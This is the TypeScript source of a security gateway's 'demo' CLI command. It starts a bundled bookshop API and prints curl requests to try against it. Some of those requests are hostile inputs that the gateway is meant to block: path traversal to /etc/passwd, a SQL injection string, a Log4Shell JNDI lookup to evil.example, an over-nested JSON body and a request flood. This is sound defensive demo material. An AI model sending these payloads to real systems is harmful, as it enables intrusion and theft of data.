// `bulwark demo` (what `npm start` runs): the bundled bookshop API behind the gateway, events in
// embedded SQLite, and a few requests to try printed on start.
import type { Command } from 'commander';
import { fileURLToPath } from 'node:url';
import { mkdirSync } from 'node:fs';
import { dirname, resolve } from 'node:path';
import { startDemoApi } from '../../demo/demo-api.js';
import { loadGatewayConfig, startGateway } from '../../gateway/index.js';
import { BulwarkError } from '../../core/errors.js';
import { runUntilSignalled } from './serve.js';

/** demo/ sits three levels above both src/cli/commands and dist/cli/commands. */
export const DEMO_DIR = resolve(dirname(fileURLToPath(import.meta.url)), '../../../demo');

interface DemoOptions { port: string; adminPort: string; upstreamPort: string; db: string }

export function registerDemoCommand(program: Command): void {
  program.command('demo')
    .description('run the gateway in front of the bundled demo API (what `npm start` runs)')
    .option('--port <port>', 'gateway port', '8080')
    .option('--admin-port <port>', 'admin port (health, metrics)', '9090')
    .option('--upstream-port <port>', 'demo API port', '3000')
    .option('--db <file>', 'SQLite file for events', './.bulwark/demo.db')
    .action(async (options: DemoOptions) => {
      const ports = [options.port, options.adminPort, options.upstreamPort].map((p) => parsePort(p));
      mkdirSync(dirname(resolve(options.db)), { recursive: true });
      const api = await startDemoApi(ports[2]).catch((error: Error) => {
        throw new BulwarkError('GATEWAY_LISTEN_FAILED', `demo API: cannot listen on 127.0.0.1:${options.upstreamPort} (${error.message}); try --upstream-port`);
      });
      const file = resolve(DEMO_DIR, 'bulwark.yaml');
      const config = loadGatewayConfig(file, {
        ...process.env,
        BULWARK_DEMO_PORT: options.port,
        BULWARK_DEMO_ADMIN_PORT: options.adminPort,
        BULWARK_DEMO_UPSTREAM_PORT: options.upstreamPort,
        BULWARK_DEMO_DB: options.db,
      });
      const running = await startGateway({ config, baseDir: DEMO_DIR, watch: false }).catch(async (error: unknown) => {
        await api.close();
        throw error;
      });
      const gateway = running.listeners[0]?.url ?? '';
      process.stdout.write([
        '',
        'Bulwark demo is running.',
        `  gateway     ${gateway}   (routes /api/* to the demo bookshop API at ${api.url})`,
        `  admin       ${running.adminUrl ?? 'disabled'}/healthz  /readyz`,
        `  metrics     ${running.adminUrl ?? 'disabled'}/metrics`,
        `  events      SQLite ${resolve(options.db)}  (npx bulwark events --db ${options.db})`,
        `  inventory   learned from the traffic  (npx bulwark inventory list --db ${options.db}; inventory diff --db ${options.db} --openapi demo/openapi.yaml)`,
        `  config      ${file}`,
        '',
        'Try:',
        `  curl -i ${gateway}/api/books`,
        `  curl -i ${gateway}/api/books/1`,
        `  curl -i -X POST ${gateway}/api/books -H 'content-type: application/json' -d '{"title":"Dune","author":"Frank Herbert"}'`,
        `  curl -i '${gateway}/api/books?limit=500'                    # breaks the OpenAPI document: 400 naming query.limit`,
        `  curl -i -X POST ${gateway}/api/books -H 'content-type: application/json' -d '{"id":7,"title":"x","author":"y"}'   # readOnly id: 422`,
        `  curl -i ${gateway}/api/admin                                # not in the document (shadow endpoint): 404`,
        `  curl -i --path-as-is ${gateway}/api/../../etc/passwd          # normalised to /etc/passwd: no route, 404`,
        `  curl -i -X POST ${gateway}/api/books -H 'content-type: application/json' -d '${'['.repeat(70)}${']'.repeat(70)}'   # nested too deep: 400`,
        `  curl -i -X POST ${gateway}/api/books -H 'content-type: application/json' -d "{\\"title\\":\\"1' union select password from users--\\",\\"author\\":\\"y\\"}"   # SQL injection: 403 naming the rules`,
        `  curl -i ${gateway}/api/books -H 'User-Agent: \${jndi:ldap://evil.example/a}'   # Log4Shell lookup in a header: 403`,
        `  for i in $(seq 12); do curl -s -o /dev/null -w '%{http_code} ' -X POST ${gateway}/api/books -H 'content-type: application/json' -d '{"title":"t","author":"a"}'; done; echo   # 10 writes a minute, then 429 with Retry-After`,
        `  curl -i ${gateway}/api/books -H 'X-Forwarded-For: 203.0.113.9'   # ignored: not from a trusted proxy`,
        `  curl -s ${running.adminUrl ?? ''}/metrics | grep bulwark_`,
        '',
        'Stop with Ctrl+C.',
        '',
      ].join('\n'));
      await runUntilSignalled(running, () => api.close());
    });
}

function parsePort(value: string): number {
  const port = Number(value);
  if (!Number.isInteger(port) || port < 0 || port > 65535) {
    throw new BulwarkError('CLI_ARGUMENT_INVALID', `--port: "${value}" is not a port number (0-65535)`);
  }
  return port;
}
